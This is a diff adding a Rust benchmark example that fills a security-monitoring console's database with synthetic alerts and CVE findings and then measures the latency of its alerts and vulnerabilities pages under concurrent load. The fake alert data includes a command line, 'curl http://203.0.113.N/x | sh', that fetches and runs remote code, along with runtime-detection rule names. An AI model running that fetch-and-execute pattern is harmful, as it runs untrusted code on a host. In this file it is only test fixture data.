@@ -1,0 +1,294 @@
+//! Console page latency with a large store: seeds ALERTS alerts and VULNS vulnerability
+//! findings (once per database), serves the console on loopback and drives the alerts and
+//! vulnerabilities pages with CONCURRENCY keep-alive clients for SECONDS seconds.
+//!
+//! `cargo run --release -p palisade-server --example console_bench -- DB ALERTS VULNS CONCURRENCY SECONDS`
+//! (see `scripts/bench/console`). Prints the first (cold-cache) render of each page and the
+//! latency distribution under load, as seen by the clients.
+
+use std::{
+    sync::Arc,
+    time::{Duration, Instant},
+};
+
+use palisade_model::{
+    AffectedAsset, AlertCategory, AlertDetails, Details, FindingKind, FindingReport, ProcessInfo,
+    Role, Severity, Timestamp, VulnerabilityDetails,
+};
+use palisade_notify::Notifier;
+use palisade_server::{AppState, issue_token, router, serve};
+use palisade_store::{FindingQuery, HandlingPolicy, SqliteStore, Store};
+
+const RULES: [&str; 8] = [
+    "Terminal shell in container",
+    "Read sensitive file untrusted",
+    "Drop and execute new binary in container",
+    "Outbound connection to C2 server",
+    "Write below binary dir",
+    "Launch package management process in container",
+    "Contact K8S API server from container",
+    "Clear log activities",
+];
+
+fn asset(index: u64) -> AffectedAsset {
+    let pod = index % 5_000;
+    AffectedAsset {
+        cluster: if index.is_multiple_of(4) {
+            "staging".into()
+        } else {
+            "prod".into()
+        },
+        node: Some(format!("node-{}", pod % 50)),
+        namespace: Some(format!("team-{}", pod % 20)),
+        pod: Some(format!("web-{pod}")),
+        container_name: Some("app".into()),
+        image: Some(format!(
+            "registry.example/team-{}/web:1.{}",
+            pod % 20,
+            pod % 7
+        )),
+        ..Default::default()
+    }
+}
+
+fn alert(index: u64, now: i64) -> FindingReport {
+    let rule = RULES[(index % 8) as usize];
+    FindingReport {
+        id: uuid::Uuid::new_v4(),
+        observed_at: Timestamp(now - ((index * 7_919) % (30 * 86_400)) as i64 * 1000),
+        severity: Severity::ALL[(index % 5) as usize],
+        rule: rule.into(),
+        title: format!("{rule} in web-{}", index % 5_000),
+        asset: asset(index),
+        details: Details::Alert(AlertDetails {
+            category: Some(AlertCategory::Intrusion),
+            mitre: Some("T1059.004".into()),
+            process: ProcessInfo {
+                pid: (index % 60_000) as u32 + 100,
+                ppid: 1,
+                exe: "/bin/sh".into(),
+                cmdline: format!(
+                    "sh -c 'curl http://203.0.113.{}/x{index} | sh'",
+                    index % 250
+                ),
+                user: "root".into(),
+            },
+            raw_event: serde_json::json!({"evt.type": "execve", "n": index}),
+            ..Default::default()
+        }),
+        demo: false,
+    }
+}
+
+fn vulnerability(index: u64, now: i64) -> FindingReport {
+    // 2,000 distinct vulnerabilities over 5,000 images: grouping has real work to do.
+    let cve = format!("CVE-2024-{:05}", index % 2_000);
+    let package = format!("lib{}", index % 300);
+    let mut asset = asset(index / 7);
+    asset.pod = None;
+    asset.container_name = None;
+    asset.image = Some(format!("registry.example/app-{}:1.0", index % 5_000));
+    FindingReport {
+        id: uuid::Uuid::new_v4(),
+        observed_at: Timestamp(now - ((index * 104_729) % (30 * 86_400)) as i64 * 1000),
+        severity: Severity::ALL[(index % 5) as usize],
+        rule: cve.clone(),
+        title: format!("{cve} in {package}"),
+        asset,
+        details: Details::Vulnerability(VulnerabilityDetails {
+            package: package.clone(),
+            ecosystem: "Debian:12".into(),
+            installed_version: format!("1.{}.0-1", index % 13),
+            fixed_versions: if index.is_multiple_of(3) {
+                vec![]
+            } else {
+                vec!["9.9.9-1".into()]
+            },
+            location: format!("/var/lib/dpkg/status#{index}"),
+            ..Default::default()
+        }),
+        demo: false,
+    }
+}
+
+async fn count(store: &dyn Store, kind: FindingKind) -> u64 {
+    store
+        .count_by_severity(kind, &FindingQuery::default())
+        .await
+        .unwrap()
+        .iter()
+        .sum()
+}
+
+async fn seed(
+    store: &dyn Store,
+    kind: FindingKind,
+    wanted: u64,
+    make: fn(u64, i64) -> FindingReport,
+) {
+    let have = count(store, kind).await;
+    if have >= wanted {
+        println!("{kind:?}: {have} stored already");
+        return;
+    }
+    let started = Instant::now();
+    let now = Timestamp::now().millis();
+    let mut index = have;
+    while index < wanted {
+        let batch: Vec<_> = (index..(index + 5_000).min(wanted))
+            .map(|i| make(i, now))
+            .collect();
+        store
+            .ingest(&batch, &HandlingPolicy::default())
+            .await
+            .unwrap();
+        index += batch.len() as u64;
+    }
+    let seconds = started.elapsed().as_secs_f64();
+    println!(
+        "{kind:?}: seeded {} in {seconds:.1} s ({:.0}/s)",
+        wanted - have,
+        (wanted - have) as f64 / seconds
+    );
+}
+
+fn percentile(sorted: &[Duration], p: f64) -> f64 {
+    if sorted.is_empty() {
+        return 0.0;
+    }
+    let rank = ((p / 100.0) * (sorted.len() - 1) as f64).round() as usize;
+    sorted[rank].as_secs_f64() * 1000.0
+}
+
+#[tokio::main]
+async fn main() {
+    let args: Vec<String> = std::env::args().skip(1).collect();
+    let arg = |index: usize, default: u64| {
+        args.get(index)
+            .and_then(|v| v.parse().ok())
+            .unwrap_or(default)
+    };
+    let path = args
+        .first()
+        .cloned()
+        .unwrap_or_else(|| "/var/tmp/palisade-console-bench.db".into());
+    let (alerts, vulns, concurrency, seconds) =
+        (arg(1, 1_000_000), arg(2, 100_000), arg(3, 16), arg(4, 20));
+
+    let store: Arc<dyn Store> = Arc::new(SqliteStore::open(path.as_ref()).await.unwrap());
+    seed(store.as_ref(), FindingKind::Alert, alerts, alert).await;
+    seed(
+        store.as_ref(),
+        FindingKind::Vulnerability,
+        vulns,
+        vulnerability,
+    )
+    .await;
+    println!(
+        "stored: {} alerts, {} vulnerability findings",
+        count(store.as_ref(), FindingKind::Alert).await,
+        count(store.as_ref(), FindingKind::Vulnerability).await
+    );
+
+    let state = AppState::new(store.clone(), Notifier::start(Default::default()))
+        .await
+        .unwrap();
+    let issued = issue_token("bench", Role::Operator, "bench", None)
+        .await
+        .unwrap();
+    store.insert_token(&issued.record, None).await.unwrap();
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let base = format!("http://{}", listener.local_addr().unwrap());
+    tokio::spawn(serve(listener, router(state), None, std::future::pending()));
+
+    let client = reqwest::Client::builder()
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .unwrap();
+    let login = client
+        .post(format!("{base}/console/login"))
+        .form(&[("token", issued.token.as_str())])
+        .send()
+        .await
+        .unwrap();
+    let cookie = login.headers()["set-cookie"]
+        .to_str()
+        .unwrap()
+        .split(';')
+        .next()
+        .unwrap()
+        .to_owned();
+    let pages = [
+        ("alerts", format!("{base}/console/clusters/prod/alerts")),
+        (
+            "vulnerabilities",
+            format!("{base}/console/clusters/prod/vulnerabilities"),
+        ),
+    ];
+    for (name, url) in &pages {
+        let started = Instant::now();
+        let response = client
+            .get(url)
+            .header("cookie", &cookie)
+            .send()
+            .await
+            .unwrap();
+        assert!(
+            response.status().is_success(),
+            "{name}: {}",
+            response.status()
+        );
+        let body = response.text().await.unwrap();
+        println!(
+            "{name}: first render (cold cache) {:.1} ms, {} bytes",
+            started.elapsed().as_secs_f64() * 1000.0,
+            body.len()
+        );
+    }
+
+    let deadline = Instant::now() + Duration::from_secs(seconds);
+    let mut tasks = Vec::new();
+    for worker in 0..concurrency {
+        let client = client.clone();
+        let cookie = cookie.clone();
+        let pages = pages.clone();
+        tasks.push(tokio::spawn(async move {
+            let mut latencies: [Vec<Duration>; 2] = [Vec::new(), Vec::new()];
+            let mut turn = worker as usize;
+            while Instant::now() < deadline {
+                let page = turn % 2;
+                turn += 1;
+                let started = Instant::now();
+                let response = client
+                    .get(&pages[page].1)
+                    .header("cookie", &cookie)
+                    .send()
+                    .await
+                    .unwrap();
+                assert!(response.status().is_success());
+                response.bytes().await.unwrap();
+                latencies[page].push(started.elapsed());
+            }
+            latencies
+        }));
+    }
+    let mut all: [Vec<Duration>; 2] = [Vec::new(), Vec::new()];
+    for task in tasks {
+        let [alerts, vulns] = task.await.unwrap();
+        all[0].extend(alerts);
+        all[1].extend(vulns);
+    }
+    for (index, (name, _)) in pages.iter().enumerate() {
+        let latencies = &mut all[index];
+        latencies.sort();
+        println!(
+            "{name}: {} requests in {seconds} s with {concurrency} clients ({:.0}/s): p50 {:.1} ms, p90 {:.1} ms, p99 {:.1} ms, max {:.1} ms",
+            latencies.len(),
+            latencies.len() as f64 / seconds as f64,
+            percentile(latencies, 50.0),
+            percentile(latencies, 90.0),
+            percentile(latencies, 99.0),
+            percentile(latencies, 100.0),
+        );
+    }
+}
